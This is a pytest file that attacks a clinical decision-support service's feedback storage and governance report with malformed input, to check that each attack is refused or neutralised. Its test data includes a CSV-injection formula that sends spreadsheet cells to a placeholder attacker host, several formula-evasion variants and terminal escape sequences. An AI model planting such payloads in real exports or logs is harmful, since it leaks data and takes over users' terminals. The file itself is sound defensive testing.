"""Hostile review, feedback storage (issue 15, items 4, 6, 8 and 9): posts that used to sleep on a request
thread, overflow, or get a 503 forever (a contract-following client retries a 503 for ever), on SQLite and on
the real PostgreSQL. Each test's docstring names the attack."""
import datetime
import threading
import time
import uuid

import pytest
from sqlalchemy import select

from service import create_app
from service.config import Settings
from service.feedback.store import feedback
from service.uuids import new_uuid
from tests.fhir_records import NO_AUTH
from tests.test_feedback import REASON_SYSTEM, accepted, issue_cards, overridden, post_feedback, storage

__all__ = ["storage"]     # a fixture used by the tests below (postgres_url is in conftest.py)


@pytest.fixture
def app(storage):
    app = create_app(Settings.from_env(NO_AUTH, **storage))
    yield app
    app.extensions["avh"].store.dispose()


@pytest.fixture
def client(app):
    return app.test_client()


def _marks(app, service="avh-order-sign") -> dict:
    with app.extensions["avh"].store.engine.connect() as conn:
        return dict(conn.execute(select(feedback.c.card_uuid, feedback.c.card_known)
                                 .where(feedback.c.service_id == service)).all())


def test_feedback_on_an_unknown_card_never_sleeps_on_the_request_thread(client, monkeypatch):
    """Attack: 16 clients post feedback about cards nobody issued; each post slept 0.7 s in its request thread
    (waiting for other workers' batches), which raised patient-view's median from 3 ms to 679 ms."""
    slept_here = []
    real_sleep = time.sleep
    request_thread = threading.get_ident()

    def sleep(seconds):
        if threading.get_ident() == request_thread:
            slept_here.append(seconds)
        real_sleep(seconds)
    monkeypatch.setattr(time, "sleep", sleep)
    for card in (new_uuid(), str(uuid.uuid4())):      # a card that looks freshly issued, and any other
        response = post_feedback(client, [overridden({"uuid": card})])
        assert response.status_code == 200 and response.json["stored"] == 1
    assert slept_here == []


def test_feedback_reaching_a_worker_before_its_card_was_written_is_marked_known_later(storage):
    """Attack (on the fix): without the wait, feedback that beats its card's batch to the database must still
    end up marked known, and a card only just minted is not called unknown in the answer."""
    issuing = create_app(Settings.from_env(NO_AUTH, issued_flush_seconds=0.3, **storage))
    other = create_app(Settings.from_env(NO_AUTH, issued_flush_seconds=0.3, **storage))   # a second worker
    try:
        card = issue_cards(issuing.test_client())["posterior-fixation"]     # not written yet
        response = post_feedback(other.test_client(), [accepted(card)])
        assert response.status_code == 200 and response.json["unknownCards"] == []
        deadline = time.monotonic() + 10
        while _marks(other) != {card["uuid"]: True} and time.monotonic() < deadline:
            time.sleep(0.1)
        assert _marks(other) == {card["uuid"]: True}
    finally:
        for app in (issuing, other):
            app.extensions["avh"].store.dispose()


@pytest.mark.parametrize("moment", ["9999-12-31T23:00:00-05:00", "0001-01-01T00:00:00+05:00"])
def test_feedback_timestamp_beyond_utc_years_is_a_400_naming_the_field(client, moment):
    """Attack: an outcomeTimestamp whose UTC moment falls in the year 10000 or the year 0 (OverflowError:
    a 500)."""
    response = post_feedback(client, [overridden({"uuid": str(uuid.uuid4())}, when=moment)])
    assert response.status_code == 400
    assert response.json["error"] == "invalid_request" and "feedback/0/outcomeTimestamp" in response.json["message"]


@pytest.mark.parametrize("moment", ["9999-12-31T23:59:59.999999Z", "9999-12-31T18:59:59-05:00",
                                    "0001-01-01T00:00:00Z", "0001-01-01T05:00:00+05:00", "0001-01-01T00:00:00"])
def test_feedback_timestamp_at_the_edges_of_utc_is_stored(client, moment):
    """Attack: outcomeTimestamps at the very first and last moments UTC can hold, with and without offsets."""
    response = post_feedback(client, [overridden({"uuid": str(uuid.uuid4())}, when=moment)])
    assert response.status_code == 200 and response.json["stored"] == 1


def _with_nul(where: str) -> dict:
    entry = overridden({"uuid": str(uuid.uuid4())})
    if where == "card":
        entry["card"] = "abc\u0000def"
    elif where.endswith("userComment"):
        entry["overrideReason"]["userComment"] = "said\u0000no"
    elif where.endswith("display"):
        entry["overrideReason"]["reason"]["display"] = "\u0000"
    elif where.endswith("code"):
        entry["overrideReason"]["reason"]["code"] = "x\u0000"
    else:
        entry = {**accepted({"uuid": entry["card"], "suggestions": [{"uuid": "s\u0000"}]})}
    return entry


@pytest.mark.parametrize("where", ["card", "overrideReason/userComment", "overrideReason/reason/display",
                                   "overrideReason/reason/code", "acceptedSuggestions/0/id"])
def test_a_nul_in_a_feedback_string_is_a_400_naming_the_field_on_both_databases(client, where):
    """Attack: a NUL (U+0000) in a feedback string; PostgreSQL cannot store it in text, so the post got 503 +
    Retry-After for ever. Refused alike on SQLite and PostgreSQL, naming the field."""
    response = post_feedback(client, [overridden({"uuid": str(uuid.uuid4())}), _with_nul(where)])
    assert response.status_code == 400
    assert f"feedback/1/{where}:" in response.json["message"] and "NUL" in response.json["message"]
    clean = post_feedback(client, [overridden({"uuid": str(uuid.uuid4())})])
    assert clean.status_code == 200 and clean.json["stored"] == 1        # nothing of the refused post was kept


@pytest.mark.parametrize("where", ["extension", "overrideReason/extension", "overrideReason/reason/extension"])
def test_a_nul_in_a_member_never_stored_is_ignored(client, where):
    """Attack (hard13): a NUL in an extension of a feedback entry (CDS Hooks: members a service does not know are
    ignored, not refused). Every string of the entry was checked, so the clinician's feedback was a 400 for text the
    service never stores."""
    entry = overridden({"uuid": str(uuid.uuid4())})
    place = entry
    for step in where.split("/")[:-1]:
        place = place[step]
    place["extension"] = {"note": "a\u0000b", "a\u0000": [1]}
    response = post_feedback(client, [entry])
    assert response.status_code == 200 and response.json["stored"] == 1


def test_a_display_that_is_not_a_string_is_a_400(client):
    """Attack: an override reason whose display is an object: it cannot be bound as text (503 for ever)."""
    entry = overridden({"uuid": str(uuid.uuid4())})
    entry["overrideReason"]["reason"]["display"] = {"text": "x"}
    response = post_feedback(client, [entry])
    assert response.status_code == 400 and "display" in response.json["message"]


def test_seventy_thousand_entries_in_one_post_are_stored(client):
    """Attack: 70,000 feedback entries in one post, over PostgreSQL's 65,535 bind parameters per statement
    (503 for ever); written in chunks, each stored once, and the resend counted as duplicates."""
    entries = [{"card": str(uuid.uuid4()), "outcome": "overridden", "outcomeTimestamp": "2026-11-24T10:00:00Z",
                "overrideReason": {"reason": {"system": REASON_SYSTEM, "code": "not-applicable"}}}
               for _ in range(70_000)]
    first = post_feedback(client, entries)
    assert first.status_code == 200, first.json
    assert (first.json["stored"], len(first.json["unknownCards"])) == (70_000, 70_000)
    again = post_feedback(client, entries[:1000])
    assert again.status_code == 200 and again.json["duplicates"] == 1000


def test_the_same_feedback_to_two_services_is_stored_for_each(app, client):
    """Attack (on correctness): feedback first posted to avh-order-sign made the same feedback to
    avh-patient-view count as a duplicate: the idempotency key ignored the service."""
    entry = overridden({"uuid": str(uuid.uuid4())})
    assert post_feedback(client, [entry], service="avh-order-sign").json["stored"] == 1
    second = post_feedback(client, [entry], service="avh-patient-view")
    assert second.status_code == 200 and second.json["stored"] == 1 and second.json["duplicates"] == 0
    assert post_feedback(client, [entry], service="avh-patient-view").json["duplicates"] == 1
    assert len(_marks(app, "avh-patient-view")) == 1 and len(_marks(app, "avh-order-sign")) == 1


def test_postgresql_down_keeps_the_instance_ready_and_reports_the_outage(tmp_path):
    """Attack (on availability): PostgreSQL goes down; hooks kept answering 200 but /readyz answered 503, so a
    load balancer took every replica out at once although all of them could serve."""
    from tests.deployment_support import sample
    from tests.ports import refused_port
    with refused_port() as refused:             # held for the whole test: nothing else can listen there
        app = create_app(Settings.from_env(NO_AUTH, database_url=f"postgresql://postgres@127.0.0.1:{refused}/avh",
                                           storage_timeout_seconds=1))
        client = app.test_client()
        try:
            assert issue_cards(client)                                  # hooks answer
            ready = client.get("/readyz")
            assert ready.status_code == 200 and ready.json["status"] == "ready"
            assert ready.json["checks"]["database"].startswith("failed") and ready.json["degraded"] == ["database"]
            failures = sample(client.get("/metrics").text, "avh_cds_feedback_store_failures_total")
            assert post_feedback(client, [overridden({"uuid": str(uuid.uuid4())})]).status_code == 503
            text = client.get("/metrics").text
            assert sample(text, "avh_cds_dependency_up", dependency="database") == 0
            assert sample(text, "avh_cds_feedback_store_failures_total") > failures
        finally:
            app.extensions["avh"].store.dispose()


def test_a_formula_posted_as_an_override_reason_is_text_in_the_governance_csv(client):
    """Attack: feedback whose override reason code is `=HYPERLINK("http://evil.example/?"&A1,"open")`; the
    governance CSV carried it as is, so the committee's spreadsheet ran it as a formula (CSV injection)."""
    import csv
    import io
    cards = issue_cards(client)
    formula = '=HYPERLINK("http://evil.example/?"&A1,"open")'
    assert post_feedback(client, [overridden(cards["steroid-duration"], code=formula),
                                  overridden(cards["steroid-duration"], code="@SUM(1+1)", when="2026-11-24T10:06:00Z")]).status_code == 200
    today = datetime.datetime.now(datetime.timezone.utc).date()     # the cards were issued today: the window holds them
    response = client.get(f"/governance?format=csv&from={today - datetime.timedelta(days=28)}&to={today}")
    items = {r["item"] for r in csv.DictReader(io.StringIO(response.get_data(as_text=True))) if r["section"] == "override_reason"}
    assert items == {"'" + formula, "'@SUM(1+1)"}


@pytest.mark.parametrize("form", ["html", "json", "csv"])
def test_the_governance_report_with_the_database_down_is_a_503_that_says_reading(tmp_path, form):
    """Attack: GET /governance while PostgreSQL is down (real gunicorn): the 503 told the committee member that
    "feedback could not be stored right now; nothing was kept, resend it later", the message of a feedback post."""
    app = create_app(Settings.from_env(NO_AUTH, database_url="postgresql://avh@127.0.0.1:9/down",
                                       storage_timeout_seconds=1.0))
    try:
        response = app.test_client().get(f"/governance?format={form}")
    finally:
        app.extensions["avh"].store.dispose()
    assert response.status_code == 503 and response.headers["Retry-After"]
    assert response.json["error"] == "storage_unavailable" and "cannot be read" in response.json["message"]
    assert "resend" not in response.json["message"]


@pytest.mark.parametrize("where", ["card", "acceptedSuggestions/0/id", "overrideReason/reason/system",
                                   "overrideReason/reason/code"])
def test_an_identifier_over_its_cap_is_a_400_naming_the_field_on_both_databases(client, where):
    """Attack: megabytes in an identifier (up to the 16 MiB body cap) were stored as sent. Refused, naming the
    field: cutting an identifier would store another one."""
    from service.feedback.entries import IDENTIFIER_CHARS
    long = "x" * (IDENTIFIER_CHARS + 1)
    if where == "acceptedSuggestions/0/id":
        entry = accepted({"uuid": str(uuid.uuid4()), "suggestions": [{"uuid": long}]})
    else:
        entry = overridden({"uuid": long if where == "card" else str(uuid.uuid4())})
        if where != "card":
            entry["overrideReason"]["reason"][where.rsplit("/", 1)[1]] = long
    response = post_feedback(client, [overridden({"uuid": str(uuid.uuid4())}), entry])
    assert response.status_code == 400 and response.json["error"] == "invalid_request"
    assert response.json["message"].startswith(f"feedback/1/{where}: {IDENTIFIER_CHARS + 1:,} characters")
    at_cap = overridden({"uuid": "y" * IDENTIFIER_CHARS})
    assert post_feedback(client, [at_cap]).json["stored"] == 1


def test_free_text_over_its_cap_is_cut_and_the_feedback_kept_on_both_databases(app, client):
    """A comment or display of megabytes is kept to its first characters: the feedback itself is not lost."""
    from service.feedback.entries import DISPLAY_CHARS, STORED_COMMENT_CHARS
    entry = overridden({"uuid": str(uuid.uuid4())})
    entry["overrideReason"]["userComment"] = "c" * STORED_COMMENT_CHARS + "beyond"
    entry["overrideReason"]["reason"]["display"] = "d" * DISPLAY_CHARS + "beyond"
    assert post_feedback(client, [entry]).json["stored"] == 1
    assert post_feedback(client, [entry]).json["stored"] == 0            # a resend is the same feedback
    with app.extensions["avh"].store.engine.connect() as conn:
        comment, display = conn.execute(select(feedback.c.user_comment, feedback.c.override_display)
                                        .where(feedback.c.card_uuid == entry["card"])).one()
    assert (comment, display) == ("c" * STORED_COMMENT_CHARS, "d" * DISPLAY_CHARS)


@pytest.mark.parametrize("code", [" =1+1", "  @SUM(1)", "\n=1+1", "\u3000=1+1", "\ufeff=1+1", "\u200b+1+1",
                                  "\uff1d1+1", "\uff0b1+1", "\uff0d1+1", "\uff20SUM(1)"])
def test_a_formula_behind_blanks_or_in_full_width_is_text_in_the_governance_csv(code):
    """Attack: the reason code's formula comes after a space, a line break, an invisible character, or is written
    with full-width signs (＝＋－＠, which a spreadsheet in an East Asian locale reads as = + - @): the CSV carried it
    as is, so a spreadsheet that trims cells on import or reads full-width signs ran it."""
    from service.feedback.page import _csv_text
    assert _csv_text(code) == "'" + code
    assert _csv_text("clinical-judgement") == "clinical-judgement" and _csv_text("a = b") == "a = b"
    assert _csv_text("\tplain") == "'\tplain"


def test_an_override_reason_code_cannot_drive_the_operators_terminal():
    """Attack: feedback whose reason code holds terminal escape sequences (ESC ] 0 ; title BEL, ESC [ 31 m, a C1 CSI,
    a line break): `avh-cds feedback-report` printed them raw, so whoever could post feedback wrote to the operator's
    terminal (set its title, recoloured or rewrote lines). They are shown escaped, the rest of the code as is."""
    from service.feedback.entries import build_report, format_table
    code = "\x1b]0;pwned\x07\x1b[31mRED\x9b2J\nx\u2028y\u202etxt"
    table = format_table(build_report([("spine-mri", 3)], [("spine-mri", "overridden", "s", code, None, 2)]))
    assert not any(c in table for c in "\x1b\x07\x9b\u2028\u202e")
    assert table.count("\n") == 4                                     # header, rule, one row, rule, total
    assert "\\x1b]0;pwned\\x07\\x1b[31mRED\\x9b2J\\nx\\u2028y\\u202etxt x2" in table
